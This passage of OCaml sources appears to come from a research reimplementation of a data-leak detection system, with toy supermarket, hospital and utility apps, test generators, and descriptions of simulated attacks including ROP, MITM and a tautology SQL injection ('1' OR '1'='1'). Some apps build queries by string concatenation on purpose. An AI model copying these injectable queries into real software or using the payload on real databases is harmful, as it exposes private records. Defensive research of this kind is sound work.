  let stmt = mysql_prepare(conn, "SELECT COUNT(*) FROM sales");
  let res = mysql_stmt_execute(conn, stmt);
  let row = mysql_fetch_row(res);
  printf("sales to date: %s\n", row[0]);
  let revstmt = mysql_prepare(conn, "SELECT SUM(total) FROM sales");
  let revres = mysql_stmt_execute(conn, revstmt);
  let revrow = mysql_fetch_row(revres);
  printf("revenue: %s\n", revrow[0]);
  let avgstmt = mysql_prepare(conn, "SELECT AVG(total) FROM sales");
  let avgres = mysql_stmt_execute(conn, avgstmt);
  let avgrow = mysql_fetch_row(avgres);
  printf("average basket: %s\n", avgrow[0]);
  let big = mysql_prepare(conn, "SELECT id, total FROM sales WHERE total >= ? ORDER BY total DESC LIMIT 5");
  let bigres = mysql_stmt_execute(conn, big, 100);
  let r = mysql_fetch_row(bigres);
  while (r != null) {
    printf("  big sale #%s total=%s\n", r[0], r[1]);
    r = mysql_fetch_row(bigres);
  }
}

fun supplier_list(conn) {
  let stmt = mysql_prepare(conn, "SELECT id, name, category FROM suppliers ORDER BY name");
  let res = mysql_stmt_execute(conn, stmt);
  let row = mysql_fetch_row(res);
  while (row != null) {
    printf("supplier %s: %s (%s)\n", row[0], row[1], row[2]);
    row = mysql_fetch_row(res);
  }
  printf("end of list\n");
}

fun update_stock(conn, item, stock) {
  let stmt = mysql_prepare(conn, "UPDATE items SET stock = ? WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, stock, item);
  return mysql_num_rows(res);
}

fun record_sale(conn, item, qty, total) {
  let idstmt = mysql_prepare(conn, "SELECT COUNT(*) FROM sales");
  let res = mysql_stmt_execute(conn, idstmt);
  let row = mysql_fetch_row(res);
  let id = atoi(row[0]) + 1;
  let stmt = mysql_prepare(conn,
    "INSERT INTO sales (id, item, qty, total) VALUES (?, ?, ?, ?)");
  let ins = mysql_stmt_execute(conn, stmt, id, item, qty, total);
  log_event("sale", id);
  return mysql_num_rows(ins);
}

fun log_event(kind, id) {
  let f = fopen("market.log", "a");
  fprintf(f, "%s %d\n", kind, id);
  fclose(f);
}
|}

let setup_db engine =
  let exec sql = ignore (Sqldb.Engine.exec engine sql) in
  exec "CREATE TABLE items (id, name, price, stock, category)";
  exec "CREATE TABLE sales (id, item, qty, total)";
  exec "CREATE TABLE suppliers (id, name, category)";
  exec "CREATE TABLE orders (id, supplier, item, qty, status)";
  let cats = [| "produce"; "dairy"; "bakery"; "frozen" |] in
  for i = 1 to 40 do
    Printf.ksprintf exec
      "INSERT INTO items VALUES (%d, 'item%d', %d, %d, '%s')" i i
      (2 + (i * 3 mod 80))
      (if i mod 7 = 0 then 4 else 20 + (i mod 30))
      cats.(i mod 4)
  done;
  for i = 1 to 25 do
    Printf.ksprintf exec "INSERT INTO sales VALUES (%d, %d, %d, %d)" i
      (1 + (i mod 40)) (1 + (i mod 5))
      (10 + (i * 17 mod 300))
  done;
  for i = 1 to 6 do
    Printf.ksprintf exec "INSERT INTO suppliers VALUES (%d, 'supplier%d', '%s')" i i
      cats.(i mod 4)
  done

let test_cases ~count ~seed =
  let rng = Mlkit.Rng.create seed in
  let item () = string_of_int (1 + Mlkit.Rng.int rng 40) in
  let op i =
    match i with
    | 0 ->
        [ "1"; item (); string_of_int (1 + Mlkit.Rng.int rng 3);
          (if Mlkit.Rng.bool rng then "y" else "n") ] (* sell *)
    | 1 -> [ "1"; item (); "0" ] (* invalid qty *)
    | 2 -> [ "1"; "999"; "2" ] (* unknown item *)
    | 3 ->
        [ "2"; Printf.sprintf "gadget%d" (Mlkit.Rng.int rng 100);
          string_of_int (1 + Mlkit.Rng.int rng 90);
          string_of_int (Mlkit.Rng.int rng 50); "produce" ]
    | 4 -> [ "3"; item (); string_of_int (5 + Mlkit.Rng.int rng 40) ] (* restock *)
    | 5 -> [ "4"; Printf.sprintf "item%d" (1 + Mlkit.Rng.int rng 40) ] (* price *)
    | 6 -> [ "5" ]
    | 7 -> [ "6" ]
    | 8 -> [ "7" ]
    | 9 -> [ "8" ]
    | 10 -> [ "9"; string_of_int (1 + Mlkit.Rng.int rng 25) ] (* return a sale *)
    | 11 -> [ "9"; "999" ] (* unknown sale *)
    | 12 -> [ "10"; "dairy"; string_of_int (5 + Mlkit.Rng.int rng 30) ]
    | 13 -> [ "10"; "produce"; "95" ] (* invalid discount *)
    | 14 -> [ "11"; string_of_int (1 + Mlkit.Rng.int rng 6); item (); string_of_int (5 + Mlkit.Rng.int rng 30) ]
    | 15 -> [ "12"; "1" ] (* receive the first order, often unknown *)
    | 16 -> [ "13" ]
    | _ -> [ "14"; item (); string_of_int (Mlkit.Rng.int rng 40) ]
  in
  List.init count (fun case ->
      let ops = 1 + Mlkit.Rng.int rng 3 in
      let script =
        List.concat (List.init ops (fun k -> op ((case + (k * 5)) mod 18))) @ [ "0" ]
      in
      Runtime.Testcase.make ~input:script ~seed:case (Printf.sprintf "market-%03d" case))

let app ?(cases = 36) () =
  {
    Adprom.Pipeline.name = "App_s (supermarket)";
    source;
    dbms = "MySQL";
    setup_db;
    test_cases = test_cases ~count:cases ~seed:7003;
  }

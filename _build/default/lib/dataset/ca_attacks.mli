(** The five attacks of the detection experiment (Sec. V-C, Table V),
    instantiated against the CA-dataset applications. *)

type case = {
  label : string;  (** "Attack 1" ... "Attack 5" *)
  scenario : Attack.Scenario.t;
  app : Adprom.Pipeline.app;  (** the targeted (clean) application *)
}

val attack1 : unit -> case
(** Insert a printing command similar to one in another branch
    (App_h: the no-match branch of the lookup starts echoing record
    fields like the match branch does). *)

val attack2 : unit -> case
(** Insert a new call in a different function to print query results
    (App_s: the stock updater starts printing the rows it touches). *)

val attack3 : unit -> case
(** Reuse an existing print command: its arguments are changed to print
    a field of the query result (App_h: the report footer prints a
    patient field instead of a constant). *)

val attack4 : unit -> case
(** Binary patching (Dyninst-style): an [fwrite] leaking the targeted
    data is injected right after a labeled output site of App_s. *)

val attack5 : unit -> case
(** Tautology SQL injection through App_b's unprepared lookup. *)

val all : unit -> case list

(** {2 The full adversary model (Sec. III)}

    Table V evaluates five attacks; the paper's adversary model lists
    more flavors (1.1-3.3). The remaining ones, for the
    [adversary-model] bench: *)

val attack_1_1 : unit -> case
(** Sec. III attack 1.1 / Fig. 1: a query literal's selectivity is
    widened (the banking statement loses its LIMIT), so an existing
    print loop iterates over far more records. *)

val attack_1_3 : unit -> case
(** Sec. III attack 1.3: an existing store-to-file command's arguments
    are replaced with a query result (the hospital audit log starts
    receiving diagnoses). *)

val attack_2_2 : unit -> case
(** Sec. III attack 2.2 (ROP): existing code gadgets — the open/write/
    close file sequence — are chained at an attacker-chosen point to
    exfiltrate the targeted data. Simulated as injected call events,
    like the ROP payload's effect on the trace. *)

val attack_3_2 : unit -> case
(** Sec. III attack 3.2 (MITM): the query is rewritten on the
    unencrypted wire; client code and binary are untouched. *)

val attack_3_3 : unit -> case
(** Sec. III attack 3.3 (BROP): stack-probing writes followed by the
    leak — a burst of [write] calls at a gadget point. *)

val adversary_model : unit -> (string * case) list
(** All eight flavors: 1.1-1.3, 2.1-2.2, 3.1-3.3 (2.1 is Table V's
    Attack 4, 1.2 is Attack 2, 3.1 is Attack 5). *)

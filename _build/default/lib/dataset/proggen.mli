(** Seeded random program generator — the bash-scale subject (App4).

    SIR supplies large real programs with big call alphabets; inside the
    sealed container we synthesize the same shape: a deterministic
    program with many functions, a large synthetic library-call alphabet
    ([lib_0] ... [lib_k]), input-driven branching (so test cases drive
    coverage), bounded loops and a little recursion. The call graph is
    layered (function [i] only calls [j > i]) except for the recursive
    functions, keeping the aggregation honest. *)

type spec = {
  seed : int;
  functions : int;  (** number of user functions besides main *)
  alphabet : int;  (** size of the synthetic lib_* alphabet *)
  statements_per_function : int;
  recursion : bool;  (** emit a couple of self-recursive helpers *)
}

val default : spec
(** 18 functions, 60-call alphabet — a "sed-sized" program. *)

val bash_like : spec
(** 48 functions, 150-call alphabet: triggers the hidden-state
    clustering (Sec. IV-C4 / Sec. V-D of the paper). *)

val generate : spec -> string
(** AppLang source text; parses and runs for any input script. *)

val test_cases : spec -> count:int -> Runtime.Testcase.t list
(** Random integer input scripts driving different paths. *)

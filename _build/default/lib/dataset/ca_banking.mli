(** App_b of the CA-dataset: a small banking system over the
    MySQL-style API (Table III). Deposit/withdraw/transfer/statement
    plus a client lookup that concatenates user input into its query —
    the vulnerability exploited by the tautology injection of Attack 5
    (Fig. 2 of the paper). *)

val source : string

val app : ?cases:int -> unit -> Adprom.Pipeline.app
(** Default 73 test cases. *)

val test_cases : count:int -> seed:int -> Runtime.Testcase.t list

val tautology : string
(** The malicious input [1' OR '1'='1]. *)

val poison_lookup : Runtime.Testcase.t -> Runtime.Testcase.t
(** Rewrite a test case into a lookup driven by {!tautology}. *)

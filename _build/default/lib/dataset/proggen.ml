type spec = {
  seed : int;
  functions : int;
  alphabet : int;
  statements_per_function : int;
  recursion : bool;
}

let default =
  { seed = 11; functions = 18; alphabet = 60; statements_per_function = 7; recursion = true }

let bash_like =
  { seed = 23; functions = 48; alphabet = 150; statements_per_function = 9; recursion = true }

let generate spec =
  let rng = Mlkit.Rng.create spec.seed in
  let buf = Buffer.create 8192 in
  let lib () = Printf.sprintf "lib_%d" (Mlkit.Rng.int rng spec.alphabet) in
  let pad depth = String.make (2 * depth) ' ' in
  (* Functions have a single flat scope, so every generated binder must
     be globally fresh — reusing a loop variable in a nested loop makes
     the outer loop spin forever. *)
  let fresh = ref 0 in
  let fresh_var prefix =
    incr fresh;
    Printf.sprintf "%s%d" prefix !fresh
  in
  (* Each function takes one int parameter [x] used for branching, so
     inputs (and call arguments) steer coverage. *)
  (* [user_calls] caps outgoing user calls per function and [in_loop]
     forbids them inside loop bodies: together they keep the dynamic
     call tree subcritical for every seed. *)
  let rec emit_stmts ?(in_loop = false) depth budget fn_index user_calls =
    if budget > 0 then begin
      let allow_call = (not in_loop) && !user_calls < 2 in
      let choice = Mlkit.Rng.int rng (if depth >= 3 then 5 else if allow_call then 8 else 7) in
      (match choice with
      | 0 | 1 -> Buffer.add_string buf (Printf.sprintf "%s%s(x);\n" (pad depth) (lib ()))
      | 2 ->
          Buffer.add_string buf
            (Printf.sprintf "%slet %s = %s(x) + 1;\n" (pad depth) (fresh_var "v") (lib ()))
      | 3 ->
          Buffer.add_string buf
            (Printf.sprintf "%sif (x %% %d == %d) {\n" (pad depth)
               (2 + Mlkit.Rng.int rng 4) (Mlkit.Rng.int rng 2));
          emit_stmts ~in_loop (depth + 1) (budget / 2) fn_index user_calls;
          Buffer.add_string buf (Printf.sprintf "%s} else {\n" (pad depth));
          emit_stmts ~in_loop (depth + 1) (budget / 2) fn_index user_calls;
          Buffer.add_string buf (Printf.sprintf "%s}\n" (pad depth))
      | 4 ->
          let bound = 1 + Mlkit.Rng.int rng 3 in
          let i = fresh_var "i" in
          Buffer.add_string buf
            (Printf.sprintf "%sfor (let %s = 0; %s < x %% %d; %s = %s + 1) {\n"
               (pad depth) i i (bound + 1) i i);
          emit_stmts ~in_loop:true (depth + 1) (max 1 (budget / 2)) fn_index user_calls;
          Buffer.add_string buf (Printf.sprintf "%s}\n" (pad depth))
      | 5 when fn_index + 1 < spec.functions && allow_call ->
          (* Call a strictly later function (layered call graph). The
             guard keeps the dynamic call tree subcritical: without it,
             an average of one call per body explodes combinatorially
             over dozens of layers. *)
          incr user_calls;
          let callee = fn_index + 1 + Mlkit.Rng.int rng (spec.functions - fn_index - 1) in
          let modulus = 3 + Mlkit.Rng.int rng 3 in
          Buffer.add_string buf
            (Printf.sprintf "%sif (x %% %d == %d) {\n%s  f%d(x %% %d);\n%s}\n" (pad depth)
               modulus (Mlkit.Rng.int rng modulus) (pad depth) callee
               (2 + Mlkit.Rng.int rng 7) (pad depth))
      | 6 -> Buffer.add_string buf (Printf.sprintf "%sprintf(\"f%d:%%d\\n\", x);\n" (pad depth) fn_index)
      | _ -> Buffer.add_string buf (Printf.sprintf "%s%s(x + %d);\n" (pad depth) (lib ()) (Mlkit.Rng.int rng 9)));
      emit_stmts ~in_loop depth (budget - 1) fn_index user_calls
    end
  in
  for i = 0 to spec.functions - 1 do
    Buffer.add_string buf (Printf.sprintf "fun f%d(x) {\n" i);
    if spec.recursion && i mod 13 = 5 then begin
      (* bounded self recursion (depth <= 7), learned dynamically *)
      Buffer.add_string buf (Printf.sprintf "  %s(x);\n" (lib ()));
      Buffer.add_string buf
        (Printf.sprintf "  if (x > 0 && x < 8) {\n    f%d(x - 1);\n  }\n" i)
    end;
    emit_stmts 1 spec.statements_per_function i (ref 0);
    Buffer.add_string buf "}\n\n"
  done;
  Buffer.add_string buf "fun main() {\n";
  Buffer.add_string buf "  let rounds = scanf_int();\n";
  Buffer.add_string buf "  if (rounds > 6) {\n    rounds = 6;\n  }\n";
  Buffer.add_string buf "  for (let r = 0; r < rounds; r = r + 1) {\n";
  Buffer.add_string buf "    let x = scanf_int();\n";
  (* Roots spread across the layers, like a shell dispatching into both
     shallow and deep subsystems; without deep roots the guard chains
     leave the bottom layers nearly unreachable. *)
  let roots = max 1 (min 10 spec.functions) in
  for k = 0 to roots - 1 do
    let target = k * spec.functions / roots in
    if k = 0 then
      Buffer.add_string buf
        (Printf.sprintf "    if (x %% %d == 0) {\n      f%d(x);\n    }" roots target)
    else
      Buffer.add_string buf
        (Printf.sprintf " else if (x %% %d == %d) {\n      f%d(x);\n    }" roots k target)
  done;
  Buffer.add_string buf "\n  }\n  printf(\"done\\n\");\n}\n";
  Buffer.contents buf

let test_cases spec ~count =
  let rng = Mlkit.Rng.create (spec.seed * 31 + 7) in
  List.init count (fun case ->
      let rounds = 1 + Mlkit.Rng.int rng 6 in
      let input =
        string_of_int rounds
        :: List.init rounds (fun _ -> string_of_int (Mlkit.Rng.int rng 1000))
      in
      Runtime.Testcase.make ~input ~seed:case (Printf.sprintf "gen-%04d" case))

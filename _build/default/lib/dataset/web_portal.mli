(** A web application subject — the paper's future work (Sec. VIII)
    made concrete: a REST-ish customer portal served by the request-loop
    builtins ([http_next_request], [http_param], [http_respond], ...).

    Routes: [GET /customer] (lookup by id, prepared), [GET /search]
    (name search — {e deliberately} built by string concatenation, the
    web-shaped version of the Fig. 2 vulnerability), [POST /order],
    [GET /report] (aggregates), anything else is a 404. *)

val source : string

val app : ?cases:int -> unit -> Adprom.Pipeline.app
(** Default 60 request-session test cases. *)

val sessions : count:int -> seed:int -> Runtime.Testcase.t list

val injection_session : Runtime.Testcase.t
(** A session whose /search parameter carries a tautology: harvests the
    whole customer table through the response. *)

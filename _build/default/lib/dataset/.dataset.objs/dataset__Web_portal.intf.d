lib/dataset/web_portal.mli: Adprom Runtime

lib/dataset/ca_hospital.ml: Adprom Array List Mlkit Printf Runtime Sqldb

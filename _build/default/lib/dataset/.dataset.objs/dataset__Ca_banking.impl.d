lib/dataset/ca_banking.ml: Adprom List Mlkit Printf Runtime Sqldb

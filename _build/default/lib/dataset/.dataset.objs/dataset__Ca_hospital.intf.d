lib/dataset/ca_hospital.mli: Adprom Runtime

lib/dataset/ca_supermarket.ml: Adprom Array List Mlkit Printf Runtime Sqldb

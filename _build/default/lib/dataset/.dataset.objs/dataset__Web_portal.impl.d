lib/dataset/web_portal.ml: Adprom List Mlkit Printf Runtime Sqldb

lib/dataset/ca_attacks.mli: Adprom Attack

lib/dataset/ca_attacks.ml: Adprom Analysis Applang Array Attack Ca_banking Ca_hospital Ca_supermarket Hashtbl List Printf Runtime String

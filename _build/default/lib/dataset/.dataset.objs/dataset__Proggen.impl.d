lib/dataset/proggen.ml: Buffer List Mlkit Printf Runtime String

lib/dataset/ca_banking.mli: Adprom Runtime

lib/dataset/ca_supermarket.mli: Adprom Runtime

lib/dataset/proggen.mli: Runtime

lib/dataset/sir.mli: Adprom Analysis Proggen Runtime

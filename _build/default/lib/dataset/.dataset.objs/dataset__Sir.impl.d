lib/dataset/sir.ml: Adprom Analysis Array Hashtbl List Mlkit Printf Proggen Runtime Sqldb String

(** App_h of the CA-dataset: a mini hospital client application over
    the PostgreSQL-style API (Table III). Menu-driven: registration,
    record lookup, appointments, diagnosis updates, discharge and
    per-department reports, with an audit log written to a file. *)

val source : string

val app : ?cases:int -> unit -> Adprom.Pipeline.app
(** The application with [cases] generated test cases (default 63, the
    paper's count). *)

val test_cases : count:int -> seed:int -> Runtime.Testcase.t list

let grep_source =
  {|
// grep-like line matcher: modes plain, count, invert, prefix, number.
fun main() {
  let pattern = scanf();
  let mode = scanf();
  let fname = scanf();
  if (strlen(pattern) == 0) {
    usage();
    return;
  }
  let f = fopen(fname, "r");
  let total = 0;
  let matched = 0;
  while (feof(f) == false) {
    let line = fgets(f);
    total = total + 1;
    let hit = match_line(line, pattern, mode);
    if (hit == 1) {
      matched = matched + 1;
      if (strcmp(mode, "count") != 0) {
        print_match(total, line, mode);
      }
    }
  }
  fclose(f);
  if (strcmp(mode, "count") == 0) {
    printf("%d\n", matched);
  }
  summary(matched, total, pattern);
}

fun usage() {
  puts("usage: grep PATTERN MODE FILE");
  puts("modes: plain count invert prefix number");
}

fun match_line(line, pattern, mode) {
  let hit = 0;
  if (strcmp(mode, "prefix") == 0) {
    if (strcmp(substr(line, 0, strlen(pattern)), pattern) == 0) {
      hit = 1;
    }
  } else {
    if (str_contains(line, pattern)) {
      hit = 1;
    }
  }
  if (strcmp(mode, "invert") == 0) {
    hit = 1 - hit;
  }
  return hit;
}

fun print_match(lineno, line, mode) {
  if (strcmp(mode, "number") == 0) {
    printf("%d:%s\n", lineno, line);
  } else {
    puts(line);
  }
}

fun summary(matched, total, pattern) {
  let f = fopen("grep.stats", "a");
  fprintf(f, "%s matched %d of %d\n", pattern, matched, total);
  fclose(f);
}
|}

let gzip_source =
  {|
// gzip-like run-length codec: compress, decompress, stats.
fun main() {
  let op = scanf();
  let infile = scanf();
  let outfile = scanf();
  if (strcmp(op, "c") == 0) {
    compress(infile, outfile);
  } else if (strcmp(op, "d") == 0) {
    decompress(infile, outfile);
  } else if (strcmp(op, "l") == 0) {
    stats(infile);
  } else {
    puts("usage: gzip c|d|l IN OUT");
  }
}

fun compress(infile, outfile) {
  let fin = fopen(infile, "r");
  let fout = fopen(outfile, "w");
  let in_bytes = 0;
  let out_bytes = 0;
  while (feof(fin) == false) {
    let line = fgets(fin);
    let coded = encode_line(line);
    in_bytes = in_bytes + strlen(line);
    out_bytes = out_bytes + strlen(coded);
    fputs(coded, fout);
    fputs("\n", fout);
  }
  fclose(fin);
  fclose(fout);
  report("compress", in_bytes, out_bytes);
}

fun decompress(infile, outfile) {
  let fin = fopen(infile, "r");
  let fout = fopen(outfile, "w");
  let in_bytes = 0;
  let out_bytes = 0;
  while (feof(fin) == false) {
    let line = fgets(fin);
    let plain = decode_line(line);
    in_bytes = in_bytes + strlen(line);
    out_bytes = out_bytes + strlen(plain);
    fputs(plain, fout);
    fputs("\n", fout);
  }
  fclose(fin);
  fclose(fout);
  report("decompress", in_bytes, out_bytes);
}

fun encode_line(line) {
  let out = "";
  let n = strlen(line);
  let i = 0;
  while (i < n) {
    let c = line[i];
    let run = 1;
    while (i + run < n) {
      if (strcmp(line[i + run], c) == 0) {
        run = run + 1;
      } else {
        break;
      }
    }
    out = strcat(out, to_string(run));
    out = strcat(out, c);
    i = i + run;
  }
  return out;
}

fun decode_line(line) {
  let out = "";
  let n = strlen(line);
  let count = 0;
  for (let i = 0; i < n; i = i + 1) {
    let c = line[i];
    if (c >= "0" && c <= "9") {
      count = count * 10 + atoi(c);
    } else {
      if (count == 0) {
        count = 1;
      }
      for (let k = 0; k < count; k = k + 1) {
        out = strcat(out, c);
      }
      count = 0;
    }
  }
  return out;
}

fun stats(infile) {
  let fin = fopen(infile, "r");
  let lines = 0;
  let bytes = 0;
  while (feof(fin) == false) {
    let line = fgets(fin);
    lines = lines + 1;
    bytes = bytes + strlen(line);
  }
  fclose(fin);
  printf("%d line(s), %d byte(s)\n", lines, bytes);
}

fun report(op, in_bytes, out_bytes) {
  printf("%s: %d -> %d bytes\n", op, in_bytes, out_bytes);
  let f = fopen("gzip.stats", "a");
  fprintf(f, "%s %d %d\n", op, in_bytes, out_bytes);
  fclose(f);
}
|}

let sed_source =
  {|
// sed-like stream editor: s (substitute), d (delete matching), n (number).
fun main() {
  let cmd = scanf();
  let arg1 = scanf();
  let arg2 = scanf();
  let fname = scanf();
  let f = fopen(fname, "r");
  let lineno = 0;
  while (feof(f) == false) {
    let line = fgets(f);
    lineno = lineno + 1;
    if (strcmp(cmd, "s") == 0) {
      puts(replace_all(line, arg1, arg2));
    } else if (strcmp(cmd, "d") == 0) {
      if (str_contains(line, arg1) == false) {
        puts(line);
      }
    } else if (strcmp(cmd, "n") == 0) {
      printf("%d\t%s\n", lineno, line);
    } else {
      puts(line);
    }
  }
  fclose(f);
  footer(cmd, lineno);
}

fun find_sub(line, needle, start) {
  let n = strlen(line);
  let m = strlen(needle);
  if (m == 0) {
    return -1;
  }
  for (let i = start; i + m <= n; i = i + 1) {
    if (strcmp(substr(line, i, m), needle) == 0) {
      return i;
    }
  }
  return -1;
}

fun replace_all(line, old, new) {
  let out = "";
  let pos = 0;
  let hit = find_sub(line, old, pos);
  while (hit >= 0) {
    out = strcat(out, substr(line, pos, hit - pos));
    out = strcat(out, new);
    pos = hit + strlen(old);
    hit = find_sub(line, old, pos);
  }
  out = strcat(out, substr(line, pos, strlen(line) - pos));
  return out;
}

fun footer(cmd, lineno) {
  let f = fopen("sed.stats", "a");
  fprintf(f, "%s processed %d line(s)\n", cmd, lineno);
  fclose(f);
}
|}

let no_db (_ : Sqldb.Engine.t) = ()

(* Deterministic text corpus for the file-processing apps. *)
let make_file rng lines =
  let words = [| "alpha"; "bravo"; "charlie"; "delta"; "echo"; "foxtrot"; "golf"; "aaaa"; "bbbb" |] in
  String.concat "\n"
    (List.init lines (fun _ ->
         String.concat " "
           (List.init (1 + Mlkit.Rng.int rng 6) (fun _ -> Mlkit.Rng.pick rng words))))

let grep_cases ~count ~seed =
  let rng = Mlkit.Rng.create seed in
  let patterns = [| "alpha"; "br"; "zulu"; "a"; "golf"; "" |] in
  let modes = [| "plain"; "count"; "invert"; "prefix"; "number"; "weird" |] in
  List.init count (fun case ->
      let input =
        [ patterns.(case mod Array.length patterns);
          modes.((case / 2) mod Array.length modes); "input.txt" ]
      in
      let files = [ ("input.txt", make_file rng (3 + Mlkit.Rng.int rng 10)) ] in
      Runtime.Testcase.make ~input ~files ~seed:case (Printf.sprintf "grep-%04d" case))

let gzip_cases ~count ~seed =
  let rng = Mlkit.Rng.create seed in
  let ops = [| "c"; "d"; "l"; "x" |] in
  List.init count (fun case ->
      let op = ops.(case mod Array.length ops) in
      let input = [ op; "in.dat"; "out.dat" ] in
      let files = [ ("in.dat", make_file rng (2 + Mlkit.Rng.int rng 8)) ] in
      Runtime.Testcase.make ~input ~files ~seed:case (Printf.sprintf "gzip-%04d" case))

let sed_cases ~count ~seed =
  let rng = Mlkit.Rng.create seed in
  let cmds = [| "s"; "d"; "n"; "p" |] in
  List.init count (fun case ->
      let cmd = cmds.(case mod Array.length cmds) in
      let input = [ cmd; "alpha"; "OMEGA"; "input.txt" ] in
      let files = [ ("input.txt", make_file rng (2 + Mlkit.Rng.int rng 8)) ] in
      Runtime.Testcase.make ~input ~files ~seed:case (Printf.sprintf "sed-%04d" case))

let app1 ?(cases = 120) () =
  {
    Adprom.Pipeline.name = "App1 (grep-like)";
    source = grep_source;
    dbms = "-";
    setup_db = no_db;
    test_cases = grep_cases ~count:cases ~seed:8001;
  }

let app2 ?(cases = 80) () =
  {
    Adprom.Pipeline.name = "App2 (gzip-like)";
    source = gzip_source;
    dbms = "-";
    setup_db = no_db;
    test_cases = gzip_cases ~count:cases ~seed:8002;
  }

let app3 ?(cases = 100) () =
  {
    Adprom.Pipeline.name = "App3 (sed-like)";
    source = sed_source;
    dbms = "-";
    setup_db = no_db;
    test_cases = sed_cases ~count:cases ~seed:8003;
  }

let app4 ?(cases = 300) ?(spec = Proggen.bash_like) () =
  {
    Adprom.Pipeline.name = "App4 (bash-scale, generated)";
    source = Proggen.generate spec;
    dbms = "-";
    setup_db = no_db;
    test_cases = Proggen.test_cases spec ~count:cases;
  }

let all () =
  [ ("App1", app1 ()); ("App2", app2 ()); ("App3", app3 ()); ("App4", app4 ()) ]

let site_coverage analysis traces =
  let static_sites =
    List.concat_map
      (fun (_, cfg) ->
        List.filter_map
          (fun (id, site) -> if site.Analysis.Cfg.is_user then None else Some id)
          (Analysis.Cfg.call_nodes cfg))
      analysis.Analysis.Analyzer.cfgs
  in
  let seen = Hashtbl.create 256 in
  List.iter
    (fun (_, trace) ->
      Array.iter
        (fun (e : Runtime.Collector.event) ->
          if e.Runtime.Collector.block >= 0 then
            Hashtbl.replace seen e.Runtime.Collector.block ())
        trace)
    traces;
  let covered = List.filter (Hashtbl.mem seen) static_sites in
  if static_sites = [] then 0.0
  else float_of_int (List.length covered) /. float_of_int (List.length static_sites)

let source =
  {|
// Mini hospital management client (PostgreSQL-style API).
fun main() {
  let conn = db_connect("postgres");
  printf("== Hospital Management ==\n");
  let running = 1;
  while (running == 1) {
    print_menu();
    let choice = scanf_int();
    if (choice == 1) {
      register_patient(conn);
    } else if (choice == 2) {
      view_patient(conn);
    } else if (choice == 3) {
      list_appointments(conn);
    } else if (choice == 4) {
      update_diagnosis(conn);
    } else if (choice == 5) {
      discharge_patient(conn);
    } else if (choice == 6) {
      department_report(conn);
    } else {
      running = 0;
    }
  }
  printf("goodbye\n");
}

fun print_menu() {
  printf("1) register patient\n");
  printf("2) view patient\n");
  printf("3) appointments\n");
  printf("4) update diagnosis\n");
  printf("5) discharge\n");
  printf("6) department report\n");
  printf("0) quit\n");
}

fun register_patient(conn) {
  printf("name: ");
  let name = scanf();
  printf("age: ");
  let age = scanf_int();
  printf("department: ");
  let dept = scanf();
  if (strlen(name) == 0) {
    printf("invalid name\n");
    return;
  }
  let countres = pq_exec(conn, "SELECT COUNT(*) FROM patients");
  let id = atoi(pq_getvalue(countres, 0, 0)) + 1000;
  let stmt = pq_prepare(conn,
    "INSERT INTO patients (id, name, age, dept, diagnosis) VALUES (?, ?, ?, ?, 'none')");
  let res = pq_exec_prepared(conn, stmt, id, name, age, dept);
  if (pq_result_status(res) == 0) {
    printf("registered patient %d\n", id);
    log_action("register", id);
  } else {
    printf("registration failed\n");
  }
}

fun view_patient(conn) {
  printf("patient id: ");
  let pid = scanf();
  let q = strcat(strcat(
    "SELECT id, name, age, dept, diagnosis FROM patients WHERE id = '", pid), "'");
  let res = pq_exec(conn, q);
  let rows = pq_ntuples(res);
  if (rows == 0) {
    printf("no such patient\n");
  } else {
    for (let r = 0; r < rows; r = r + 1) {
      print_patient(res, r);
    }
  }
  log_action("view", 0);
}

fun print_patient(res, r) {
  printf("id=%s name=%s age=%s dept=%s diagnosis=%s\n",
    pq_getvalue(res, r, 0), pq_getvalue(res, r, 1), pq_getvalue(res, r, 2),
    pq_getvalue(res, r, 3), pq_getvalue(res, r, 4));
}

fun list_appointments(conn) {
  printf("patient id: ");
  let pid = scanf_int();
  let stmt = pq_prepare(conn,
    "SELECT id, day, dept FROM appointments WHERE patient_id = ? ORDER BY day");
  let res = pq_exec_prepared(conn, stmt, pid);
  let rows = pq_ntuples(res);
  printf("%d appointment(s)\n", rows);
  for (let r = 0; r < rows; r = r + 1) {
    printf("  #%s day %s at %s\n",
      pq_getvalue(res, r, 0), pq_getvalue(res, r, 1), pq_getvalue(res, r, 2));
  }
}

fun update_diagnosis(conn) {
  printf("patient id: ");
  let pid = scanf_int();
  printf("diagnosis: ");
  let diag = scanf();
  let stmt = pq_prepare(conn, "UPDATE patients SET diagnosis = ? WHERE id = ?");
  let res = pq_exec_prepared(conn, stmt, diag, pid);
  if (pq_result_status(res) == 0) {
    printf("updated\n");
    log_action("diagnose", pid);
  } else {
    printf("update failed\n");
  }
}

fun discharge_patient(conn) {
  printf("patient id: ");
  let pid = scanf_int();
  printf("confirm (y/n): ");
  let answer = scanf();
  if (strcmp(answer, "y") == 0) {
    let stmt = pq_prepare(conn, "DELETE FROM patients WHERE id = ?");
    let res = pq_exec_prepared(conn, stmt, pid);
    if (pq_result_status(res) == 0) {
      printf("discharged\n");
      log_action("discharge", pid);
    } else {
      printf("discharge failed\n");
    }
  } else {
    printf("cancelled\n");
  }
}

fun department_report(conn) {
  report_line(conn, "cardio");
  report_line(conn, "neuro");
  report_line(conn, "ortho");
  printf("report complete\n");
}

fun report_line(conn, dept) {
  let q = strcat(strcat("SELECT COUNT(*) FROM patients WHERE dept = '", dept), "'");
  let res = pq_exec(conn, q);
  printf("%s: %s patient(s)\n", dept, pq_getvalue(res, 0, 0));
}

fun log_action(kind, id) {
  let f = fopen("hospital.log", "a");
  fprintf(f, "%s %d\n", kind, id);
  fclose(f);
}
|}

let setup_db engine =
  let exec sql = ignore (Sqldb.Engine.exec engine sql) in
  exec "CREATE TABLE patients (id, name, age, dept, diagnosis)";
  exec "CREATE TABLE appointments (id, patient_id, day, dept)";
  let depts = [| "cardio"; "neuro"; "ortho" |] in
  for i = 0 to 24 do
    Printf.ksprintf exec
      "INSERT INTO patients VALUES (%d, 'patient%d', %d, '%s', '%s')" (1000 + i) i
      (20 + ((i * 7) mod 60))
      depts.(i mod 3)
      (if i mod 4 = 0 then "flu" else "none")
  done;
  for i = 0 to 39 do
    Printf.ksprintf exec "INSERT INTO appointments VALUES (%d, %d, %d, '%s')" i
      (1000 + (i mod 25))
      (1 + (i mod 28))
      depts.(i mod 3)
  done

(* Scripted menu interactions covering every handler and branch. *)
let test_cases ~count ~seed =
  let rng = Mlkit.Rng.create seed in
  let op i =
    match i with
    | 0 ->
        (* register, valid *)
        [ "1"; Printf.sprintf "newpatient%d" (Mlkit.Rng.int rng 50);
